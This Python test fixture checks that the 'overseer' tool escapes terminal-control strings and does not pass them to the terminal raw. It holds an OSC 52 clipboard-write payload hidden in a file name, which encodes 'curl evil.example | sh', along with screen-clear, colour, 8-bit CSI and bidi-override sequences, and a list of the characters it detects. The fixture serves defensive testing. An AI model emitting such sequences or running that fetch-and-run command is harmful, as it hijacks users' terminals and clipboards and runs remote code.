"""Strings from outside overseer that try to act on the terminal that shows them: a file name in
the target repository holding a complete OSC 52 clipboard write (what issue 14 saw take the
clipboard through `overseer show` and the TUI), and a reason with a screen clear, colours, an
8-bit CSI and a right-to-left override. Shown, they are harmless text (`\\x1b]52;…`); acted
on, they rewrite the screen or the clipboard."""

from __future__ import annotations

import base64
from pathlib import Path

from support.helpers import SAMPLE, init_repo

OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh\n").decode() + "\x07"
FILE_NAME = f"pkg/clip{OSC52}.py"
REASON = f"not this{OSC52} \x1b[2J\x1b[31mred\x9b1;1H \u202eesrever"
# What a terminal would act on: ESC, BEL, the 8-bit CSI, the bidirectional override.
ACTING = ("\x1b", "\x07", "\x9b", "\u202e")
SHOWN = "\\x1b]52;c;"  # the clipboard write, as it is shown instead

# The sample without its findings, and one module whose name is the attack: its unused import
# is the only change there is to make, so every attempt is about that file.
FILES = {
    **SAMPLE,
    "pkg/util.py": "def double(x):\n    return x * 2\n",
    FILE_NAME: "import os\n\n\ndef one():\n    return 1\n",
}


def hostile_repo(path: Path) -> Path:
    return init_repo(path, FILES)


def assert_harmless(text: str, *, shows: str = SHOWN) -> None:
    """Nothing in `text` acts on a terminal, and the attack is there to see."""
    acting = sorted({repr(c) for c in ACTING if c in text})
    assert not acting, f"{acting} reach the terminal raw in:\n{text!r}"
    assert shows in text, f"{shows!r} is not shown in:\n{text}"
